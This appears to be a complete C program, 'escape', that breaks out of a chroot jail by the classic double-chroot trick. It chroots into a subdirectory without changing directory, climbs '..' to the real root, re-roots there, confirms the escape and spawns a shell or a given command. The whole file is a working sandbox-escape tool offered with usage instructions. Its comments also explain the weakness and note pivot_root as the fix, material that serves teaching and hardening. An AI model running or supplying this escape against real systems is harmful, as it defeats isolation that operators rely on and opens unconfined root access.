/* SPDX-License-Identifier: MIT */
/*
 * escape - climb out of a chroot
 *
 * chroot(2) changes the root of a process, and nothing else. The kernel stops
 * ".." only at the root, so a process whose working directory is outside can
 * walk up to the real root. A second chroot without chdir(2) puts the working
 * directory outside. After pivot_root(2), nothing is left outside.
 *
 * Usage, as root: escape [COMMAND [ARG...]], by default /bin/sh
 */
#define _GNU_SOURCE
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat before, after;

	if (stat("/", &before) == -1 || chdir("/") == -1)
		err(1, "/");

	/* Any directory will do: the working directory is now outside. */
	if (chroot("bin") == -1)
		err(1, "chroot bin");

	/* At the real root, ".." is the root itself. */
	for (int i = 0; i < 4096; i++)
		if (chdir("..") == -1)
			err(1, "..");

	if (chroot(".") == -1 || stat("/", &after) == -1)
		err(1, "chroot .");
	if (after.st_ino == before.st_ino && after.st_dev == before.st_dev)
		errx(1, "still confined: nothing lies above this root");

	if (argc > 1)
		execvp(argv[1], argv + 1);
	else
		execl("/bin/sh", "sh", (char *)NULL);
	err(1, "%s", argc > 1 ? argv[1] : "/bin/sh");
}
